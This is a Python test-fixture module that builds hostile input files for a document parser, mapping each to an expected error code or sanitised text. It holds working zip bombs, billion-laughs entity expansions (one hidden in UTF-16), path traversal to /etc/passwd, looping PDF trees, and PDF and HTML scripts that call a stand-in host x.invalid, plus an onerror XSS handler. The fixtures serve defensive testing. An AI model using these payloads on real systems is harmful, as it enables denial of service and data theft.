"""Files made to harm whoever opens them, and what must become of each."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

from ..builders import _assembled, locked_pdf, page, pdf, repacked, with_body, word, zip_bomb
from ..ofd_writer import ofd, packed

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
WORD = word(["第一条 甲。", "第二条 乙。"])
PDF = pdf([page(["第一条 为了检验文件不完整时的表现，编写这一条。"])])
OFD = ofd([["第一条 甲。"]])
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPE = f'<!DOCTYPE x [<!ENTITY l0 "哈">{LAUGHS}]>'
LINE = "第一条 " + "甲乙丙，" * 430_000
"""5 MB in UTF-8, without a line break."""


def part(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def laughing_word() -> bytes:
    body = part(WORD, "word/document.xml").replace("甲".encode(), b"&l9;")
    return repacked(WORD, {"word/document.xml": body.replace(b"?>", f"?>{DOCTYPE}".encode(), 1)})


def utf16_laughs() -> bytes:
    """The declaration hidden from a search for ASCII bytes."""
    body = part(WORD, "word/document.xml").decode().split("?>", 1)[1]
    return repacked(
        WORD,
        {"word/document.xml": f'<?xml version="1.0" encoding="UTF-16"?>{DOCTYPE}{body}'.encode("utf-16")},
    )


def locked_zip(data: bytes) -> bytes:
    changed = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(signature)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(signature, at + 4)
    return bytes(changed)


def lying_size() -> bytes:
    """A part that says it is small and unpacks to 40 MB."""
    changed = bytearray(repacked(WORD, {"word/document.xml": bytes(40 * 1024 * 1024)}))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = changed.find(signature)
        while at >= 0:
            if struct.unpack_from("<I", changed, at + offset)[0] == 40 * 1024 * 1024:
                struct.pack_into("<I", changed, at + offset, 1000)
            at = changed.find(signature, at + 4)
    return bytes(changed)


def related(target: str) -> bytes:
    """A Word file whose main part is said to lie at ``target``."""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        f'Target="{target}"/></Relationships>'
    )
    return repacked(WORD, {"_rels/.rels": rels.encode()})


def huge_png(side: int) -> bytes:
    """A PNG of a few bytes that says it is ``side`` pixels wide and high."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0"))
        + chunk(b"IEND", b"")
    )


def many_frames(count: int) -> bytes:
    first, *rest = (Image.new("1", (8, 8), 1) for _ in range(count))
    buffer = io.BytesIO()
    first.save(buffer, "TIFF", save_all=True, append_images=rest)
    return buffer.getvalue()


def looping_pdf() -> bytes:
    return _assembled(
        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"]
    )


def scripted_pdf() -> bytes:
    action = b"/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\);this.submitForm\\('http://x.invalid'\\)) >> /Pages 2 0 R"
    return PDF.replace(b"/Pages 2 0 R", action, 1)


def placed_ofd(boundary: str, delta: str = "1") -> bytes:
    text = (
        f'<ofd:TextObject Boundary="{boundary}" Size="5"><ofd:TextCode X="0" Y="5" DeltaX="{delta}">第一条 甲。'
        "</ofd:TextCode></ofd:TextObject>"
    )
    return ofd([[]], template=text)


HTML = "<html><body>{}<p>第一条 甲。</p></body></html>"
SPANS = (
    "<w:tbl>"
    + "<w:tr>"
    + '<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p><w:r><w:t>甲。</w:t></w:r></w:p></w:tc>' * 3
    + "</w:tr></w:tbl>"
)

ATTACKS: dict[str, tuple[bytes, str, str]] = {
    "nothing": (b"", "空.docx", "E101"),
    "truncated word": (WORD[:-300], "断.docx", "E104"),
    "truncated ofd": (OFD[:-60], "断.ofd", "E116"),
    "truncated pdf": (PDF[:60], "断.pdf", "E108"),
    "truncated archive": (packed({"a.docx": WORD})[:-30], "断.zip", "E136"),
    "encrypted word": (OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "密.docx", "E105"),
    "encrypted parts": (locked_zip(WORD), "密.docx", "E105"),
    "encrypted ofd": (locked_zip(OFD), "密.ofd", "E105"),
    "encrypted pdf": (locked_pdf(), "密.pdf", "E107"),
    "pdf named docx": (PDF, "假.docx", ""),
    "word named pdf": (WORD, "假.pdf", ""),
    "page named docx": (HTML.format("").encode(), "假.docx", ""),
    "program named docx": (b"\x7fELF\x02\x01\x01" + bytes(400), "假.docx", "E114"),
    "bomb in a word file": (zip_bomb(), "炸弹.docx", "E110"),
    "bomb in an ofd": (packed({"OFD.xml": b"<a/>", "x.bin": bytes(40 << 20)}), "炸弹.ofd", "E110"),
    "part larger than it says": (lying_size(), "炸弹.docx", "E104"),
    "bomb of bombs": (packed({"a.zip": packed({"b.zip": packed({"c": bytes(1 << 20)})})}), "炸弹.zip", "E119"),
    "five thousand parts": (repacked(WORD, {f"x/{n}": b"" for n in range(5001)}), "多.docx", "E110"),
    "part outside the package": (related("../../../../etc/passwd"), "越界.docx", ""),
    "absolute part": (related("/etc/passwd"), "越界.docx", ""),
    "ofd outside the package": (
        packed({"OFD.xml": b"<O><DocRoot>../../../etc/passwd</DocRoot></O>"}), "越界.ofd", "E116",
    ),
    "laughs in word": (laughing_word(), "实体.docx", "E111"),
    "laughs in utf-16": (utf16_laughs(), "实体.docx", "E111"),
    "laughs in ofd": (packed({"OFD.xml": f"{DOCTYPE}<O>&l9;</O>".encode()}), "实体.ofd", "E111"),
    "laughs in a page": ((DOCTYPE + HTML.format("<p>&l9;</p>")).encode(), "实体.html", ""),
    "laughs in a drawing": (f'<?xml version="1.0"?>{DOCTYPE}<svg>&l9;</svg>'.encode(), "实体.svg", "E144"),
    "drawing named txt": (b'<svg xmlns="http://www.w3.org/2000/svg"><text>x</text></svg>', "图.txt", "E144"),
    "ten thousand pages": (pdf([[]] * 10_000), "长.pdf", "E112"),
    "page tree that loops": (looping_pdf(), "环.pdf", "E108"),
    "one line of 5 MB": (LINE.encode(), "长.txt", ""),
    "one paragraph of 5 MB": (word([LINE]), "长.docx", ""),
    "one line of 5 MB in a page": (HTML.format(LINE).encode(), "长.html", ""),
    "nul": ("第一条 甲\0乙。\n第二条 丙。".encode(), "空字符.txt", "E115"),
    "zero width": ("第一条 女\u200b职\u2060工。".encode(), "零宽.txt", ""),
    "bidirectional": ("第一条 \u202e工职女\u202c。".encode(), "倒序.txt", ""),
    "script in a page": (HTML.format("<script>fetch('http://x.invalid')</script>").encode(), "脚本.html", ""),
    "handlers in a page": (HTML.format("<img src=x onerror=alert(1)>").encode(), "脚本.html", ""),
    "script in a pdf": (scripted_pdf(), "脚本.pdf", ""),
    "macros": (repacked(WORD, {"word/vbaProject.bin": bytes(99)}), "宏.docm", ""),
    "malformed xml": (repacked(WORD, {"word/document.xml": b"<w:document"}), "坏.docx", "E104"),
    "malformed numbering": (repacked(WORD, {"word/numbering.xml": b"<a><b></a>"}), "坏.docx", "E104"),
    "wide spans": (with_body(SPANS), "宽.docx", ""),
    "places beyond numbers": (placed_ofd("nan inf 1 1"), "怪.ofd", "E116"),
    "a thousand million steps": (placed_ofd("30 30 90 9", "g 1000000000 1"), "怪.ofd", ""),
    "steps that are no numbers": (placed_ofd("30 30 90 9", "a b c"), "怪.ofd", "E116"),
    "other archive": (b"Rar!\x1a\x07\x01\x00" + bytes(90), "包.rar", "E141"),
    "web archive": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "页.mht", "E121"),
    "spreadsheet": (packed({"[Content_Types].xml": b"", "xl/workbook.xml": b""}), "表.docx", "E120"),
    "broken picture": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "图.png", "E118"),
    "huge picture": (huge_png(60_000), "图.png", "E131"),
    "too many pictures": (many_frames(201), "图.tif", "E132"),
}  # fmt: skip
"""Name to (bytes, file name, number of the refusal); '' where a sane document must come of it."""

TEXTS = {
    "part outside the package": "第一条 甲。\n第二条 乙。",
    "laughs in a page": "第一条 甲。",
    "zero width": "第一条 女职工。",
    "bidirectional": "第一条 工职女。",
    "script in a page": "第一条 甲。",
    "handlers in a page": "第一条 甲。",
    "script in a pdf": "第一条 为了检验文件不完整时的表现，编写这一条。",
    "macros": "第一条 甲。\n第二条 乙。",
    "a thousand million steps": "第一条 甲。",
}
"""What the sane document says (in the case of a page's entities: at the end)."""

__all__ = ["ATTACKS", "TEXTS"]
